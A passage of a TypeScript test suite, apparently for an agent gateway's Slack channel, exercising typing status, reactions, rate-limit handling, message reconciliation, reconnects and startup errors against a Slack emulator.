      expect([...emulator.workspace.statuses.values()]).toEqual([]);
    });

    test("a waiting that nobody confirms any more is over after two minutes", async () => {
      const threadId = await emulator.say("U0ALICENG", "C0OPSROOM", "go");
      await it.channel.requestSign(route({ threadId }), "one", "waiting");
      emulator.clock.advance(121_000);
      await it.channel.typing(route({ threadId }));
      expect([...emulator.workspace.statuses.values()]).toEqual(["Working on it…"]);
    });

    test("outside threads, and in a workspace without the feature, nothing is shown and nothing fails", async () => {
      await it.channel.requestSign(ops, "one", "waiting");
      expect(emulator.journal.calls("assistant.threads.setStatus")).toHaveLength(0);
      const threadId = await emulator.say("U0ALICENG", "C0OPSROOM", "go");
      emulator.fail("assistant.threads.setStatus", { error: "access_denied" });
      for (const sign of ["waiting", "working", "over"] as const)
        await it.channel.requestSign(route({ threadId }), "one", sign);
      expect(emulator.journal.calls("assistant.threads.setStatus")).toHaveLength(1);
    });

    test("elsewhere the message has a reaction, until the answer is there or the channel stops", async () => {
      const replyToId = await emulator.say("U0ALICENG", "C0OPSROOM", "go");
      for (let n = 0; n < 3; n++) await it.channel.typing(route({ replyToId }));
      expect(reactions(replyToId)).toEqual(["eyes"]);
      expect(emulator.journal.calls("reactions.add")).toHaveLength(1);
      await it.channel.send(outbound(text()));
      await expect.poll(() => reactions(replyToId)).toEqual([]);
      await it.channel.typing(route({ replyToId }));
      await it.channel.stop();
      expect(reactions(replyToId)).toEqual([]);
    });

    test("an app that was installed without the scope is not asked again, and works on", async () => {
      emulator.api.scopes = emulator.api.scopes.filter((scope) => scope !== "reactions:write");
      const replyToId = await emulator.say("U0ALICENG", "C0OPSROOM", "go");
      const second = await emulator.say("U0ALICENG", "C0OPSROOM", "go on");
      await it.channel.typing(route({ replyToId }));
      await it.channel.typing(route({ replyToId: second }));
      expect(emulator.journal.calls("reactions.add")).toHaveLength(1);
      expect((await it.channel.send(outbound(text()))).kind).toBe("sent");
    });

    test("what Slack answers to it otherwise, or not at all, holds up nothing", async () => {
      const threadId = await emulator.say("U0ALICENG", "C0OPSROOM", "go");
      emulator.fail("assistant.threads.setStatus", { status: 503 });
      await it.channel.typing(route({ threadId }));
      emulator.fail("reactions.add", { retryAfterS: 30 });
      await it.channel.typing(route({ replyToId: threadId }));
      expect((await it.channel.send(outbound(text()))).kind).toBe("sent");
    });
  });

  test("what stands below a message is counted as it passes by, a thread by itself, without asking", async () => {
    const root = await emulator.say("U0ALICENG", "C0OPSROOM", "go");
    const [above, inThread] = [outbound(run()), outbound(run(), { route: { ...ops, threadId: root } })];
    const refs = [await it.channel.send(above), await it.channel.send(inThread)];
    const [room, thread] = refs.map((one) => (one.kind === "sent" ? one.ref : undefined));
    if (!room || !thread) throw new Error("not sent");
    for (let n = 0; n < 3; n++) await emulator.say("U0BRAMWIT", "C0OPSROOM", `talk ${n}`);
    await emulator.say("U0BRAMWIT", "C0OPSROOM", "a reply", { thread: root });
    await it.channel.send(outbound(text()));
    await expect.poll(() => it.channel.below(room, 5, "remembered")).toBe(4);
    expect(await it.channel.below(thread, 5, "remembered")).toBe(1);
    expect(await it.channel.below(room, 3, "remembered")).toBe(3);
    expect(emulator.journal.calls("conversations.history")).toEqual([]);

    // Another life of the gateway has seen nothing; Slack has.
    const fresh = await started(rig(emulator));
    expect(await fresh.channel.below(room, 5, "remembered")).toBeUndefined();
    expect(await fresh.channel.below(room, 5, "asked")).toBe(4);
    expect(await fresh.channel.below(thread, 5, "asked")).toBe(1);
    await emulator.say("U0BRAMWIT", "C0OPSROOM", "more", {});
    expect(await fresh.channel.below(room, 5, "asked")).toBe(5);
    await fresh.channel.stop();
  });

  test("gateways that share a request URL each see a part: what stands below is asked", async () => {
    const shared = await started(rig(emulator, { gateways: () => 2 }));
    const sent = await shared.channel.send(outbound(run()));
    if (sent.kind !== "sent") throw new Error("not sent");
    expect(await shared.channel.below(sent.ref, 5, "remembered")).toBeUndefined();
    expect(await shared.channel.below(sent.ref, 5, "asked")).toBe(0);
    await shared.channel.stop();
  });

  test("they share the limits out too: none of them sends or asks as if it were alone", async () => {
    const rates = { channelPerSecond: 1, channelBurst: 4, editsPerMinute: 50, totalPerMinute: 300 };
    const shared = await started(rig(emulator, { gateways: () => 2, rates }));
    const results = [];
    for (let n = 0; n < 4; n++) results.push(await shared.channel.send(outbound(text())));
    expect(results.map((one) => one.kind)).toEqual(["sent", "sent", "retry", "retry"]);
    await shared.channel.stop();
  });

  test("questions stay within their method's limit: what is over it is not asked, and a delivery comes back for it", async () => {
    emulator.api.perMethod = { "conversations.history": { count: 50, perMs: 60_000 } };
    const message = outbound(run());
    await it.channel.send(message);
    const fresh = await started(rig(emulator));
    // What an earlier try made is known after the first answer, so each asks for another message.
    const ask = () => fresh.channel.reconcile(outbound(run()));
    for (let n = 0; n < 50; n++) expect(await ask()).toBeUndefined();
    const later = await ask().catch((error: unknown) => error);
    expect(later).toBeInstanceOf(AskLater);
    expect((later as AskLater).afterMs).toBeLessThanOrEqual(60_000);
    expect(emulator.journal.calls("conversations.history")).toHaveLength(50);
    emulator.clock.advance((later as AskLater).afterMs);
    expect(await fresh.channel.reconcile(message)).toBeDefined();
    expect(emulator.journal.entries.filter((entry) => entry.status === 429)).toEqual([]);
    await fresh.channel.stop();
  });

  test("a question that Slack refuses waits as long as Slack says, and holds up no other method", async () => {
    const message = outbound(run());
    await it.channel.send(message);
    const fresh = await started(rig(emulator));
    emulator.fail("conversations.history", { retryAfterS: 40 });
    for (let n = 0; n < 3; n++) {
      const later = await fresh.channel.reconcile(message).catch((error: unknown) => error);
      expect(later).toBeInstanceOf(AskLater);
      expect((later as AskLater).afterMs).toBeGreaterThan(39_000);
    }
    expect(emulator.journal.calls("conversations.history")).toHaveLength(1);
    await emulator.say("U0BRAMWIT", "C0OPSROOM", "@openclaw hello");
    await expect.poll(() => fresh.events.at(-1)?.actor.display).toBe("bram");
    emulator.clock.advance(40_000);
    expect(await fresh.channel.reconcile(message)).toBeDefined();
    await fresh.channel.stop();
  });

  test("a text of which one part was lost is completed, not repeated, also in a thread and after a restart", async () => {
    const root = await emulator.say("U0ALICENG", "C0OPSROOM", "go");
    const long = outbound(
      text({ text: Array.from({ length: 50 }, (_, i) => `${i} ${"word ".repeat(60)}`).join("\n\n") }),
      { route: { ...ops, threadId: root } },
    );
    emulator.delay(5, "chat.postMessage");
    emulator.fail("chat.postMessage", { times: 1, status: 200, error: "ratelimited" });
    expect((await it.channel.send(long)).kind).toBe("retry");
    emulator.clock.advance(30_001);
    expect((await it.channel.send(long)).kind).toBe("sent");
    const parts = emulator.workspace.messages.filter(bot);
    const lost = parts[1];
    if (lost !== undefined) lost.deleted = true;
    const fresh = await started(rig(emulator));
    expect(await fresh.channel.reconcile(long)).toBeUndefined();
    expect((await fresh.channel.send(long)).kind).toBe("sent");
    expect(emulator.workspace.messages.filter((m) => bot(m) && !m.deleted)).toHaveLength(parts.length);
    expect(await fresh.channel.reconcile(long)).toMatchObject({ messageId: parts[0]?.ts });
    await fresh.channel.stop();
  });

  test("refused blocks go out as plain text with the typed form, never silently (slack-section-3000, slack-slash-in-thread)", async () => {
    emulator.fail("chat.postMessage", { error: "invalid_blocks" });
    expect((await it.channel.send(outbound(approval()))).kind).toBe("sent");
    expect(emulator.screenText("U0ALICENG", "C0OPSROOM")).toContain("@openclaw approve 3f0c1a2b allow-once");
    expect(it.log.join("\n")).toContain("refused the card's blocks");
  });

  test.each([
    ["channel_not_found", "permanent"],
    ["is_archived", "permanent"],
    ["token_revoked", "permanent"],
    ["internal_error", "unknown"],
    ["service_unavailable", "retry"],
  ])("Slack answers %s: %s", async (error, kind) => {
    emulator.fail("chat.postMessage", { error });
    expect((await it.channel.send(outbound(text()))).kind).toBe(kind);
  });

  test.each([
    ["asks to reconnect", () => Promise.resolve(emulator.disconnect())],
    ["cuts the connection", () => Promise.resolve(emulator.drop())],
    ["is restarted", () => emulator.restart(120)],
  ])(
    "when Slack %s, one socket comes back and nothing said meanwhile is lost (slack-socket-multi-conn)",
    async (_name, break_) => {
      const gone = emulator.waitUntil(() => (emulator.openSockets === 0 ? true : undefined));
      await break_();
      await gone;
      for (let i = 0; i < 20; i++) await emulator.say("U0ALICENG", "D0ALICENG", `event ${i}`);
      await expect.poll(() => new Set(it.events.map((event) => event.id)).size, { timeout: 8000 }).toBe(20);
      expect(emulator.openSockets).toBe(1);
      expect(it.channel.status().state).toBe("connected");
    },
  );

  test("apps.connections.open failing during reconnects neither kills the process nor ends the retries", async () => {
    const rejections: unknown[] = [];
    const note = (reason: unknown): void => void rejections.push(reason);
    process.on("unhandledRejection", note);
    emulator.fail("apps.connections.open", { times: 2, cut: true });
    emulator.fail("apps.connections.open", { times: 1, status: 503 });
    emulator.drop();
    await expect.poll(() => it.channel.status().state).toBe("connecting");
    await expect.poll(() => it.channel.status().state, { timeout: 8000 }).toBe("connected");
    await emulator.say("U0ALICENG", "D0ALICENG", "still there?");
    await expect.poll(() => it.events).toHaveLength(1);
    process.off("unhandledRejection", note);
    expect(rejections).toEqual([]);
  });

  test("stop during a reconnect leaves no socket and no rejection (slack-socket-multi-conn)", async () => {
    const rejections: unknown[] = [];
    const note = (reason: unknown): void => void rejections.push(reason);
    process.on("unhandledRejection", note);
    emulator.fail("apps.connections.open", { times: 50, cut: true });
    emulator.drop();
    await expect.poll(() => inEnglish(it.channel.status().detail ?? "")).toContain("next attempt");
    await it.channel.stop();
    emulator.faults.reset();
    expect(it.channel.status().state).toBe("stopped");
    await started(it);
    expect(emulator.openSockets).toBe(1);
    process.off("unhandledRejection", note);
    expect(rejections).toEqual([]);
  });

  test("a token revoked while running stops the retries and says so", async () => {
    emulator.fail("apps.connections.open", { times: 5, error: "token_revoked" });
    emulator.drop();
    await expect
      .poll(() => it.channel.status())
      .toMatchObject({ state: "failed", detail: { text: expect.stringContaining("revoked") } });
    expect(emulator.journal.calls("apps.connections.open")).toHaveLength(2);
  });

  test("a second process on the same token is warned about", async () => {
    const second = await started(rig(emulator));
    await expect.poll(() => second.log.join("\n")).toContain("Another process is connected");
    await second.channel.stop();
  });
});

describe("start", () => {
  beforeEach(() => emulator.reset());

  test.each([
    ["bot token", { botToken: "xoxb-wrong" }, "not valid"],
    ["app token", { mode: { kind: "socket", appToken: "xoxb-emulator-0001" } as const }, "wrong kind"],
  ])("a refused %s is a clear error without the token", async (_name, over, words) => {
    const made = rig(emulator, over);
    const error = await started(made).catch((reason: unknown) => reason);
    expect(error).toBeInstanceOf(ExecError);
    expect((error as ExecError).message).toContain(words);
    expect(made.channel.status().state).toBe("failed");
    expect(`${(error as Error).message}${made.log.join()}${inEnglish(made.channel.status().detail ?? "")}`).not.toMatch(
      /xoxb-\w|xapp-\w/,
    );
    await made.channel.stop();
  });

  test("Slack out of reach at start is retried in the background", async () => {
    emulator.fail("auth.test", { times: 2, cut: true });
    const made = await started(rig(emulator));
    expect(made.channel.status().state).toBe("connecting");
    await expect.poll(() => made.channel.status().state, { timeout: 5000 }).toBe("connected");
    await made.channel.stop();
  });

  test("missing scopes are named", async () => {
    emulator.api.scopes = ["chat:write", "commands"];
    const made = await started(rig(emulator));
    expect(inEnglish(made.channel.status().detail ?? "")).toMatch(/missing scopes: .*files:write/);
    await made.channel.stop();
  });
});
